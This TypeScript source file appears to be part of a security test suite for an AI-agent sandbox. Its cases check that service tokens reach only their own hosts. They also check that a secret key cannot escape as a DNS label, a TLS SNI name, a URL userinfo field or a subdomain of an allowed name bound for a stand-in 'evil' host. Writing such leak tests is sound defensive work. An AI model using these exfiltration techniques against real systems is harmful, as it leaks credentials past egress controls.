import type { Finding } from "../case.ts";
import { formatQuery } from "../internet/dns_query.ts";
import { everyProxy, raw, udp } from "../internet/probes.ts";
import { request } from "./asking.ts";
import { type SecretCase, type SecretsGiven, SITE } from "./given.ts";
import { isAnswered, isDenied, listArrivals } from "./seen.ts";
import { TOKEN_HOMES, TOKENS } from "./tokens.ts";
import { whereStopped } from "./ways.ts";

const SUITE = "secrets";

async function checkTokens(given: SecretsGiven): Promise<Finding | { notApplicable: string }> {
  const { internet, probe } = given.guarded;
  const { echo } = internet.addresses;
  const send = (id: string, { token, host }: { token: string; host: string }) =>
    request(id, ["-H", `authorization: Bearer ${token}`, `http://${host}/`]);
  return await whereStopped(given, async () => {
    for (const host of TOKEN_HOMES) internet.script(host, { answers: [[echo]] });
    const outcomes = await probe(TOKENS.flatMap(([what, token, home]) => [
      send(`${what} elsewhere`, { token, host: SITE.closed }),
      send(`${what} at home`, { token, host: home }),
    ]));
    const arrivals = listArrivals(await internet.events()).filter(({ host }) =>
      host === SITE.closed
    );
    const listWhere = (where: string, is: (data: string) => boolean) =>
      TOKENS.filter(([what]) => is(outcomes.get(`${what} ${where}`).data));
    const told = listWhere("elsewhere", (data) => isDenied(data, "secret-foreign"));
    const home = listWhere("at home", isAnswered);
    const evidence = arrivals.flatMap((arrival) =>
      TOKENS.filter(([, token]) => JSON.stringify(arrival.headers).includes(token))
        .map(([what]) => `${what} arrived at ${arrival.host}`)
    );
    return {
      held: evidence.length === 0,
      control: home.length === TOKENS.length && told.length === TOKENS.length,
      seen: `${TOKENS.length} formats, ${evidence.length} elsewhere, ${home.length} at home`,
      evidence,
    };
  });
}

async function checkNames(given: SecretsGiven): Promise<Finding | { notApplicable: string }> {
  const { internet, probe } = given.guarded;
  const { value } = given.secrets.key;
  const direct = { env: everyProxy(null) };
  const tries = [
    udp("a question to the gateway", { hex: formatQuery(`${value}.${SITE.evil}`) }),
    request("a client without a proxy", [`http://${value}.${SITE.evil}/`], direct),
    request("plain HTTP through the proxy", [`http://${value}.${SITE.evil}/`]),
    request("a tunnel", [`https://${value}.${SITE.evil}/`]),
    raw("a name in TLS", {
      ...{ host: "@gateway", port: 443, tls: { sni: `${value}.${SITE.evil}` } },
    }),
    request("a user in the address", [`http://${value}:x@${SITE.closed}/`]),
    request("below an allowed name", [`http://${value}.${SITE.wild}/`]),
    request("below an allowed name, without a proxy", [`http://${value}.${SITE.wild}/`], direct),
    request("a tunnel below an allowed name", [`https://${value}.${SITE.wild}/`]),
    raw("TLS below an allowed name, in capitals and two labels", {
      ...{ host: "@gateway", port: 443 },
      tls: { sni: `${value.slice(0, 20)}.${value.slice(20)}.${SITE.wild}`.toUpperCase() },
    }),
  ];
  return await whereStopped(given, async () => {
    await probe([...tries, request("control", [`http://tried.${SITE.wild}/`])]);
    const events = await internet.events();
    // Names know no case, and a long one takes several labels.
    const letters = (text: string) => text.toLowerCase().replaceAll(".", "");
    const evidence = events.filter((event) => letters(JSON.stringify(event)).includes(value))
      .map(({ kind }) => `the value of ${given.secrets.key.name}: ${kind}`);
    const questions = events.flatMap((event) => event.kind === "dns" ? [event.name] : []);
    return {
      held: evidence.length === 0,
      control: questions.includes(`tried.${SITE.wild}`),
      seen: `${tries.length} names and addresses, ${evidence.length} questions and packets`,
      evidence,
    };
  });
}

/** What would tell strangers a value, or a token that nobody named. */
export const STRANGER_CASES: readonly SecretCase[] = [
  {
    id: "S06",
    suite: SUITE,
    title: "tokens of well-known services go to these services alone",
    threat: "tokens that sandcage was never told of are copied from a project to a stranger",
    expectation: "each format stopped toward a foreign host; each arrives at its own",
    source: "agentcage",
    brokenBy: "formats of tokens are not known",
    quick: false,
    check: checkTokens,
  },
  {
    id: "S17",
    suite: SUITE,
    title: "a real value does not leave as a name",
    threat: "a name server gets the key as a label of a name that nobody needs to allow",
    expectation:
      "no question and no packet with it, also below an allowed name; another such name is asked for",
    source: "sandcage",
    brokenBy: "names are not searched for values",
    quick: false,
    check: checkNames,
  },
];
